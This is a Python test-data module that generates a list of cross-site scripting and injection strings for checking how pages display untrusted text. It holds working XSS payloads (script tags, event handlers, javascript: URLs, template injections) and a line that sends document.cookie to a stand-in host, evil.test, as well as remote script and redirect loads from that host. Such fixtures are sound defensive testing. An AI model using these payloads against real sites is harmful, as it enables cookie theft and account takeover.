"""Texts that try to become markup, a program or an address in a page that shows them."""

from collections.abc import Sequence

CALLS = (
    "alert(1)",
    "parent.document.title=1",
    "window.hit=1",
    "fetch('//evil.test/'+document.cookie)",
    "document.body.remove()",
)
MARKUP: Sequence[str] = (
    "<script>{call}</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror={call}>",
    "<img src=x onerror=\"{call}\" style='display:block'>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg/onload='{call}'//",
    '<math><mi//xlink:href="data:x,<script>{call}</script>">',
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<iframe src=javascript:{call}>",
    "<object data=javascript:{call}>",
    "<embed src=//evil.test/x.swf>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<style>@import '//evil.test/x.css';*{{display:none}}</style>",
    "<form action=//evil.test><button autofocus onfocus={call}>",
    "<input autofocus onfocus={call}>",
    "<details open ontoggle={call}>x</details>",
    "<video><source onerror={call}></video>",
    "<body onload={call}>",
    "<a href=javascript:{call}>press me</a>",
    "<a href='data:text/html,<script>{call}</script>'>press me</a>",
    '"><script>{call}</script>',
    "'><img src=x onerror={call}>",
    "</title><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</script><script>{call}</script>",
    "--><script>{call}</script>",
    "]]><script>{call}</script>",
    "<template><script>{call}</script></template>",
    '<noscript><p title="</noscript><img src=x onerror={call}>">',
    "<xss onpointerenter={call}>hover me",
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{call}",
    "`${{{call}}}`",
    "');{call};('",
    '";{call};//',
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "&lt;script&gt;{call}&lt;/script&gt;",
    "&#60;img src=x onerror={call}&#62;",
    "%3Cscript%3E{call}%3C/script%3E",
    "{{{{ constructor.constructor('{call}')() }}}}",
    "{{%if 1%}}{call}{{%endif%}}",
    "[press me](javascript:{call})",
)
OTHER: Sequence[str] = (
    "__proto__",
    "constructor",
    "toString",
    "\u202egnp.exe\u202c turned around",
    "zero\u200bwidth\u200djoiner",
    "\ud55c\uad6d\uc5b4 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \U0001f9ea",
    "Z\u0351\u0343\u0321a\u0348l\u0335g\u0337o",
    "NaN, Infinity, -0, 1e999, 9007199254740993",
)


def hostile_strings(count: int = 200) -> list[str]:
    """So many different texts."""
    made = [text.format(call=call) for call in CALLS for text in MARKUP]
    return list(dict.fromkeys([*OTHER, *made]))[:count]
